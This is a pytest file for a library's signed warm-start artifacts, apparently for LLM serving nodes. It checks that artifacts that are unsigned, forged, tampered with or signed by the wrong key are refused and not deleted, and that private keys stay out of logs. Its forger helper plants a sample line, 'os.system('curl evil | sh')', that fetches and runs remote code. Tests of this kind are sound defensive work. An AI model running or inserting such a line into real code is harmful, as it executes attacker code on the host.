"""Signed warm-start artifacts: real Ed25519 keys, real tar archives, a real directory store and
moto's S3 server. A reader that trusts keys unpacks only what one of them signed, and nothing a
store writer without the key does makes it delete a sound artifact."""

from __future__ import annotations

import logging
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from prometheus_client import CollectorRegistry

from llm_init import DefaultSteps, LLMConfig, initialize_node_sync
from llm_init.artifacts import ArtifactStore, Manifest, open_artifact_store, publish, restore
from llm_init.artifacts.publishing import start_publish
from llm_init.artifacts.settings import ArtifactSettings
from llm_init.artifacts.signing import (
    Signer,
    SigningKeyError,
    TrustedKeys,
    load_private_key,
    load_public_key,
    signature_name,
    trusted_keys,
)
from llm_init.artifacts.transfer import manifest_name
from llm_init.errors import CallbackConfigError
from llm_init.events import (
    ArtifactMissed,
    ArtifactPublished,
    ArtifactPublishSkipped,
    ArtifactRestored,
    Event,
)
from llm_init.replay import read_events
from llm_init.steps.download import DownloadStep
from llm_init.stores import open_store
from llm_init.telemetry.backends import PrometheusBackend
from llm_init.telemetry.metrics import MetricsCallback
from tests.support.models import write_model
from tests.support.s3 import running_moto_s3
from tests.support.steps import SettingStep
from tests.support.warm import (  # noqa: F401
    KEY,
    PARTS,
    CachingEngineStep,
    cache_root_env,
    make_cache,
    write_key_pair,
)


@pytest.fixture
def keys(tmp_path: Path) -> tuple[Signer, TrustedKeys]:
    """The platform's publisher key, and the readers' trust in it."""
    private, public = write_key_pair(tmp_path / "keys", "publisher")
    return load_private_key(path=str(private)), trusted_keys([str(public)])


@pytest.fixture
def forger(tmp_path: Path) -> Signer:
    """A key of the forger's own, trusted by no reader."""
    private, _ = write_key_pair(tmp_path / "keys", "forger")
    return load_private_key(path=str(private))


@pytest.fixture(params=["dir", "s3"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[ArtifactStore]:
    if request.param == "dir":
        yield open_artifact_store(f"file://{tmp_path / 'store'}")
        return
    bucket = f"signed-{uuid.uuid4().hex[:12]}"  # moto's buckets are per process
    with running_moto_s3() as s3:
        s3.client().create_bucket(Bucket=bucket)
        yield open_artifact_store(f"s3://{bucket}/warm", endpoint_url=s3.endpoint_url)


def snapshot(store: ArtifactStore) -> dict[str, bytes | None]:
    """Every object under the artifact's key, with its bytes."""
    return {name: store.read(name) for name in store.list(f"{KEY}/")}


def forge(store: ArtifactStore, tmp_path: Path, signer: Signer | None) -> None:
    """What a store writer without the platform's key does: put an artifact of their own
    (their code in the cache) under ``KEY``, signed with their own key or not at all."""
    evil = make_cache(tmp_path / "evil")
    (evil / "torch_compile_cache" / "abc" / "rank_0_0" / "vllm_compile_cache.py").write_text(
        "import os; os.system('curl evil | sh')\n")
    assert publish(store, KEY, PARTS, evil, signer=signer).result == "published"


def test_a_signed_artifact_restores_and_names_its_key(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """An artifact the publisher signed restores on a reader that trusts the key, and the
    outcome names the key that signed it."""
    signer, trust = keys
    published = publish(store, KEY, PARTS, make_cache(tmp_path / "cold"), signer=signer,
                        trust=trust)
    restored = restore(store, KEY, PARTS, tmp_path / "warm", trust=trust)
    assert (published.result, restored.result) == ("published", "hit")
    assert published.signed_by == restored.signed_by == signer.key_id
    assert (tmp_path / "warm" / "modelinfos" / "llama.json").exists()


def test_an_unsigned_artifact_is_untrusted_unpacked_nowhere_and_left_in_place(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """A reader that requires signatures refuses an unsigned artifact as ``untrusted``: nothing
    reaches the cache directory and the manifest and archive stay in the store."""
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"))
    before = snapshot(store)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=keys[1])
    assert (outcome.result, outcome.reason) == ("miss", "untrusted")
    assert "not signed" in (outcome.message or "")
    assert not (tmp_path / "warm").exists()
    assert snapshot(store) == before


def test_an_artifact_signed_by_the_forgers_own_key_is_untrusted_and_left_alone(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys],
        forger: Signer) -> None:
    """A store writer who replaced manifest and archive and signed them with a key of their
    own gets a miss ``untrusted`` naming that key; nothing is unpacked or deleted."""
    signer, trust = keys
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"), signer=signer)
    store.delete(manifest_name(KEY))
    forge(store, tmp_path, forger)
    before = snapshot(store)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=trust)
    assert (outcome.result, outcome.reason) == ("miss", "untrusted")
    assert forger.key_id in (outcome.message or "")
    assert not (tmp_path / "warm").exists()
    assert snapshot(store) == before


def test_a_manifest_changed_after_signing_is_untrusted(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """A manifest rewritten to name other files, with the publisher's signature copied next to
    it, fails verification: the signature covers the exact manifest bytes."""
    signer, trust = keys
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"), signer=signer)
    raw = store.read(manifest_name(KEY)) or b""
    signature = store.read(signature_name(KEY, raw)) or b""
    changed = raw.replace(b'"host"', b'"host" ', 1)
    store.delete(manifest_name(KEY))
    assert store.put_new(manifest_name(KEY), changed)
    copied = tmp_path / "copied.sig"
    copied.write_bytes(signature)
    store.put(signature_name(KEY, changed), copied)
    before = snapshot(store)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=trust)
    assert (outcome.result, outcome.reason) == ("miss", "untrusted")
    assert "does not match" in (outcome.message or "")
    assert snapshot(store) == before


def test_an_artifact_forged_for_a_key_never_published_is_untrusted(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """Key parts are predictable: a writer without the key who publishes first, for a key
    nobody published yet, is refused all the same."""
    forge(store, tmp_path, None)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=keys[1])
    assert (outcome.result, outcome.reason) == ("miss", "untrusted")
    assert not (tmp_path / "warm").exists()


def test_a_missing_signature_is_untrusted_and_the_artifact_stays(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """A signed artifact whose signature object was removed is a miss ``untrusted``, and its
    manifest and archive are not deleted."""
    signer, trust = keys
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"), signer=signer)
    store.delete(signature_name(KEY, store.read(manifest_name(KEY)) or b""))
    before = snapshot(store)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=trust)
    assert (outcome.result, outcome.reason) == ("miss", "untrusted")
    assert snapshot(store) == before


def test_a_damaged_archive_of_a_signed_artifact_is_still_set_aside(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """Damage found after a valid signature is ordinary corruption: the artifact is set aside
    (manifest, signature and archive) so that the next publish replaces it."""
    signer, trust = keys
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"), signer=signer)
    manifest = Manifest.from_json(store.read(manifest_name(KEY)) or b"")
    bad = tmp_path / "bad.tar"
    bad.write_bytes(b"x" * manifest.archive_bytes)
    store.put(f"{KEY}/{manifest.archive}", bad)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=trust)
    assert (outcome.result, outcome.reason) == ("miss", "corrupt")
    assert "set aside" in (outcome.message or "")
    assert store.list(f"{KEY}/") == []


def test_a_publisher_without_a_trusted_key_publishes_nothing(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys],
        forger: Signer) -> None:
    """Where readers require signatures, a publisher with no key, or with a key they do not
    trust, skips with reason ``unsigned`` instead of occupying the key with an artifact
    nobody would take."""
    cache = make_cache(tmp_path / "cold")
    outcomes = [publish(store, KEY, PARTS, cache, signer=signer, trust=keys[1])
                for signer in (None, forger)]
    assert [(o.result, o.reason) for o in outcomes] == [("skipped", "unsigned")] * 2
    assert store.list("") == []


def test_a_publisher_with_a_trusted_key_replaces_an_untrusted_artifact(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """An unsigned artifact (from before signing was turned on, or a forger's) does not block
    its key forever: the trusted publisher replaces it, and readers then hit."""
    signer, trust = keys
    forge(store, tmp_path, None)
    published = publish(store, KEY, PARTS, make_cache(tmp_path / "cold"), signer=signer,
                        trust=trust)
    restored = restore(store, KEY, PARTS, tmp_path / "warm", trust=trust)
    assert (published.result, restored.result) == ("published", "hit")
    assert "curl evil" not in (tmp_path / "warm" / "torch_compile_cache" / "abc" / "rank_0_0"
                               / "vllm_compile_cache.py").read_text()


def test_unsigned_artifacts_restore_while_signatures_are_not_required(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """With ``require_signature`` off (a migration), an unsigned artifact still restores, and
    the outcome says nothing signed it."""
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"))
    lenient = TrustedKeys(keys[1].keys, required=False)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=lenient)
    assert (outcome.result, outcome.signed_by) == ("hit", None)


def test_a_damaged_unsigned_artifact_is_not_set_aside_while_signatures_are_optional(
        store: ArtifactStore, tmp_path: Path, keys: tuple[Signer, TrustedKeys]) -> None:
    """With ``require_signature`` off, a damaged unsigned artifact is a miss ``corrupt`` but is
    left in the store: only a signed artifact may be set aside, so that no writer without the
    key can have readers delete objects its manifest names."""
    publish(store, KEY, PARTS, make_cache(tmp_path / "cold"))
    manifest = Manifest.from_json(store.read(manifest_name(KEY)) or b"")
    bad = tmp_path / "bad.tar"
    bad.write_bytes(b"x" * manifest.archive_bytes)
    store.put(f"{KEY}/{manifest.archive}", bad)
    before = snapshot(store)
    lenient = TrustedKeys(keys[1].keys, required=False)
    outcome = restore(store, KEY, PARTS, tmp_path / "warm", trust=lenient)
    assert (outcome.result, outcome.reason) == ("miss", "corrupt")
    assert snapshot(store) == before


def test_keys_load_from_an_environment_variable_and_openssh_lines(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A private key in an environment variable and its public key as an ``ssh-ed25519``
    line make a signature that verifies, under the same key id."""
    key = Ed25519PrivateKey.generate()
    monkeypatch.setenv("WARM_SIGNING_KEY", key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()).decode())
    line = key.public_key().public_bytes(serialization.Encoding.OpenSSH,
                                         serialization.PublicFormat.OpenSSH).decode()
    signer = load_private_key(env="WARM_SIGNING_KEY")
    trust = TrustedKeys({signer.key_id: load_public_key(line)})
    assert trust.verify(b"manifest", signer.sign(b"manifest")) == signer.key_id


def test_an_unusable_key_file_is_named_and_its_content_is_not_shown(tmp_path: Path) -> None:
    """A key file that holds no Ed25519 key is named in the error, its content is not."""
    bad = tmp_path / "signing.pem"
    bad.write_text("-----BEGIN PRIVATE KEY-----\nbm90IGEga2V5IGF0IGFsbA==\n"
                   "-----END PRIVATE KEY-----\n")
    with pytest.raises(SigningKeyError) as raised:
        load_private_key(path=str(bad))
    assert str(bad) in str(raised.value)
    assert "bm90IGEga2V5" not in str(raised.value)


def test_settings_refuse_a_private_key_written_into_them() -> None:
    """Key material given as ``signing_key`` is refused at configuration time, without being
    repeated: the settings travel in configs and events."""
    pem = "-----BEGIN PRIVATE KEY-----\nc2VjcmV0c2VjcmV0\n-----END PRIVATE KEY-----\n"
    with pytest.raises(CallbackConfigError, match="signing_key holds a private key") as raised:
        ArtifactSettings(url="file:///x", signing_key=pem)
    assert "c2VjcmV0" not in str(raised.value)


def test_trusted_keys_turn_signatures_on_and_requiring_them_needs_keys() -> None:
    """Trusted keys make signatures required unless turned off; requiring them with no key to
    trust is a configuration error."""
    assert ArtifactSettings(url="file:///x", trusted_keys=["k.pub"]).signatures_required
    assert not ArtifactSettings(url="file:///x", trusted_keys=["k.pub"],
                                require_signature=False).signatures_required
    assert not ArtifactSettings(url="file:///x").signatures_required
    with pytest.raises(CallbackConfigError, match="require_signature needs trusted_keys"):
        ArtifactSettings(url="file:///x", require_signature=True)


def warm_start(tmp_path: Path, node: str, artifact_store: dict[str, object],
               engine: CachingEngineStep, observers: list[Any] | None = None) -> list[Event]:
    """One initialization with warm starts, its events in a SQLite log; then its publish."""
    source = tmp_path / "model"
    if not source.exists():
        write_model(source, shards=1, shard_size=20_000)
    config = LLMConfig(model_id="tiny", model_source=str(source),
                       engine_kwargs={"dtype": "bfloat16", "max_model_len": 256},
                       artifact_store={**artifact_store, "url": f"file://{tmp_path / 'store'}",
                                       "cache_dir": str(tmp_path / node / "warm"),
                                       "model_link_dir": str(tmp_path / "links")})
    steps = DefaultSteps(download=DownloadStep(cache_dir=tmp_path / node / "models"),
                         placement_group=SettingStep("placement_group", None), engine=engine)
    store = open_store(f"sqlite:///{tmp_path / 'events.sqlite'}")
    try:
        ctx = initialize_node_sync(config, event_store=store, steps=steps,
                                   observers=observers or [])
        thread = start_publish(ctx, event_store=store)
        if thread is not None:
            thread.join(60)
        return list(read_events(store, ctx.init_id))
    finally:
        store.close()


def test_a_publisher_and_a_restore_only_replica_keep_the_key_out_of_every_record(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
        ) -> None:
    """A publisher with its key in an environment variable, then a restore-only replica that
    trusts it: the second starts warm from the signed artifact, both events name the key id,
    and the private key appears in neither the SQLite event log nor a log line."""
    private, public = write_key_pair(tmp_path / "keys", "platform")
    pem = private.read_text()
    body = "".join(pem.splitlines()[1:-1])
    monkeypatch.setenv("LLM_INIT_WARM_KEY", pem)
    caplog.set_level(logging.DEBUG)
    engine = CachingEngineStep()
    trust = {"trusted_keys": [str(public)]}
    cold = warm_start(tmp_path, "publisher", {**trust, "signing_key_env": "LLM_INIT_WARM_KEY"},
                      engine)
    warm = warm_start(tmp_path, "replica", {**trust, "publish": False}, engine)
    (published,) = [e for e in cold if isinstance(e, ArtifactPublished)]
    (restored,) = [e for e in warm if isinstance(e, ArtifactRestored)]
    assert published.signed_by == restored.signed_by == load_private_key(
        path=str(private)).key_id
    assert [s["warm"] for s in engine.seen] == [False, True]
    assert body.encode() not in (tmp_path / "events.sqlite").read_bytes()
    assert body not in caplog.text


def test_a_replica_without_the_key_does_not_publish_where_signatures_are_required(
        tmp_path: Path) -> None:
    """A replica that trusts keys but holds none, with publishing left on, records a skip
    with reason ``unsigned`` and leaves the store empty."""
    _, public = write_key_pair(tmp_path / "keys", "platform")
    events = warm_start(tmp_path, "replica", {"trusted_keys": [str(public)]},
                        CachingEngineStep())
    (skipped,) = [e for e in events if isinstance(e, ArtifactPublishSkipped)]
    assert skipped.reason == "unsigned"
    assert not list((tmp_path / "store").rglob("manifest*"))


def test_a_trusted_key_file_missing_on_the_node_is_a_local_error_naming_it(
        tmp_path: Path) -> None:
    """A replica whose trusted key file is not there restores nothing: a miss with reason
    ``local_error`` that names the file, and the engine starts cold."""
    missing = tmp_path / "keys" / "absent.pub"
    engine = CachingEngineStep()
    events = warm_start(tmp_path, "replica", {"trusted_keys": [str(missing)],
                                              "publish": False}, engine)
    (missed,) = [e for e in events if isinstance(e, ArtifactMissed)]
    assert missed.reason == "local_error"
    assert str(missing) in missed.message
    assert [s["warm"] for s in engine.seen] == [False]


def test_an_untrusted_artifact_counts_as_an_error_in_the_cache_metric(tmp_path: Path) -> None:
    """A restore-only replica that finds an unsigned artifact records a miss ``untrusted``
    and counts it as ``result="error"``, so the warm-start error alerts fire on forgeries."""
    _, public = write_key_pair(tmp_path / "keys", "platform")
    store = open_artifact_store(f"file://{tmp_path / 'store'}")
    engine, registry = CachingEngineStep(), CollectorRegistry()
    cold = warm_start(tmp_path, "cold", {}, engine)  # publishes unsigned: no keys configured
    assert [e for e in cold if isinstance(e, ArtifactPublished)]
    assert store.list("")
    warm = warm_start(tmp_path, "replica", {"trusted_keys": [str(public)], "publish": False},
                      engine, [MetricsCallback(PrometheusBackend(registry, port=None))])
    (missed,) = [e for e in warm if isinstance(e, ArtifactMissed)]
    assert missed.reason == "untrusted"
    assert registry.get_sample_value("llm_init_artifact_cache_total",
                                      {"model": "tiny", "result": "error"}) == 1.0
